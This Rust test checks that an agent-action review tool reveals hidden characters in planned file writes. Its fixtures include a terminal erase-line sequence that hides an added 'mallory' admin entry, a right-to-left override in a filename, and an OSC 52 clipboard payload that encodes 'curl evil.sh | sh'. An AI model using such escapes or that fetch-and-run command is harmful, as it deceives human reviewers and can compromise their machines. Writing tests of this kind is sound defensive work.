//! What a person reads is what runs: an agent's text never drives the
//! operator's terminal. A write planned through the official
//! `server-filesystem` whose content erases its own line (`\r\e[2K`) and
//! whose path carries OSC 52 (write the clipboard) and U+202E (reverse the
//! text) is shown by `plans show` — on a terminal, piped, and as JSON —
//! with every such character as a visible escape and its line marked,
//! while the step keeps the exact bytes it will write.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use common::*;
use serde_json::{Value, json};

/// Content that, printed raw, erases `mallory` from the screen.
const CONTENT: &str = "admins: [root, mallory]\r\u{1b}[2K\u{1b}[0m admins: [root]\n";
/// OSC 52: a terminal that allows it puts `curl evil.sh | sh` on the
/// clipboard.
const OSC52: &str = "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}";

/// Whether every ESC in `text` starts one of plangate's own colours
/// (`ESC [ digits m`), and nothing else.
fn only_own_colours(text: &str) -> bool {
    text.match_indices('\u{1b}').all(|(at, _)| {
        let rest = &text[at + 1..];
        rest.strip_prefix('[').is_some_and(|r| {
            let digits = r.len() - r.trim_start_matches(|c: char| c.is_ascii_digit()).len();
            digits > 0 && r[digits..].starts_with('m')
        })
    })
}

#[tokio::test]
async fn plans_show_prints_hidden_characters_as_escapes_and_marks_their_lines() {
    let scratch = Scratch::new();
    let root = scratch.path().join("root");
    std::fs::create_dir_all(&root).unwrap();
    std::fs::write(root.join("admins.yml"), "admins: [root]\n").unwrap();
    let config = filesystem_config(&scratch, &root, "");
    let token = scratch.create_key("agent", "plan");
    let agent = config_client(&scratch, config.to_str().unwrap(), &token).await;

    // An overwrite whose new line erases itself, and a new file whose name
    // carries OSC 52 and a right-to-left override.
    let admins = root.join("admins.yml");
    let hostile_name = format!("notes{OSC52}\u{202e}fdp.txt");
    let hostile_path = root.join(&hostile_name);
    for (path, content) in [
        (admins.to_str().unwrap().to_owned(), CONTENT),
        (hostile_path.to_str().unwrap().to_owned(), "hello\n"),
    ] {
        let planned = ok(
            &agent,
            "write_file",
            json!({"path": path, "content": content}),
        )
        .await;
        assert_eq!(planned["code"], "plan_step", "{planned}");
    }

    // Piped: no control character of the agent's reaches the reader; each
    // is a visible escape, and every line holding one is marked.
    let args = ["plans", "show", "--key", "agent"];
    let piped = succeeded(&args, &scratch.run(&args));
    for raw in ['\u{1b}', '\r', '\u{7}', '\u{202e}'] {
        assert!(!piped.contains(raw), "{raw:?} reached the reader:\n{piped}");
    }
    // The diff counts the CR as a line end, as `similar` does: the line
    // it writes is the whole attempt, shown.
    let erasing = "+admins: [root, mallory]\\r+\\e[2K\\e[0m admins: [root]";
    let named = "notes\\e]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}\\u{202e}fdp.txt";
    for shown in [erasing, named] {
        let lines: Vec<&str> = piped.lines().filter(|l| l.contains(shown)).collect();
        assert!(!lines.is_empty(), "{shown} is not shown:\n{piped}");
        for line in lines {
            assert!(
                line.ends_with("  [contains hidden characters]"),
                "not marked: {line}"
            );
        }
    }
    assert!(piped.contains("-admins: [root]\n"), "{piped}");
    // Lines of plangate's own, and the old line, are not marked.
    assert!(
        piped
            .lines()
            .filter(|l| l.contains("contains hidden characters"))
            .all(|l| l.contains("\\e") || l.contains("\\u{") || l.contains("\\r")),
        "{piped}"
    );

    // On a terminal: the diff is coloured by plangate, and the only
    // escape sequences on the screen are those colours.
    let (status, screen) = in_terminal(&scratch, &args, "");
    assert!(status.success(), "{screen}");
    assert!(
        screen.contains("\u{1b}[32m"),
        "no colour on a terminal:\n{screen}"
    );
    assert!(
        only_own_colours(&screen),
        "an escape of the agent's ran:\n{screen:?}"
    );
    for raw in ['\r', '\u{7}', '\u{202e}'] {
        assert!(
            !screen.contains(raw),
            "{raw:?} reached the terminal:\n{screen:?}"
        );
    }
    assert!(
        screen.contains(&format!(
            "\u{1b}[32m{erasing}\u{1b}[0m  [contains hidden characters]"
        )),
        "{screen:?}"
    );
    assert!(screen.contains(named), "{screen:?}");

    // As JSON: the same values, every hidden character a \u escape.
    let args = ["plans", "show", "--key", "agent", "--json"];
    let text = succeeded(&args, &scratch.run(&args));
    for raw in ['\u{1b}', '\r', '\u{7}', '\u{202e}'] {
        assert!(!text.contains(raw), "{raw:?} in the JSON:\n{text}");
    }
    assert!(text.contains("\\u001b]52;c;"), "{text}");
    assert!(text.contains("\\u202e"), "{text}");
    let view: Value = serde_json::from_str(&text).unwrap();
    let arguments: Vec<Value> = view["steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["arguments"].clone())
        .collect();
    assert_eq!(arguments[0]["content"], CONTENT, "{view}");
    assert_eq!(
        arguments[1]["path"],
        hostile_path.to_str().unwrap(),
        "{view}"
    );

    // Nothing was written while it was only planned.
    assert_eq!(
        std::fs::read_to_string(&admins).unwrap(),
        "admins: [root]\n"
    );
    assert!(!hostile_path.exists());
    agent.cancel().await.unwrap();
}
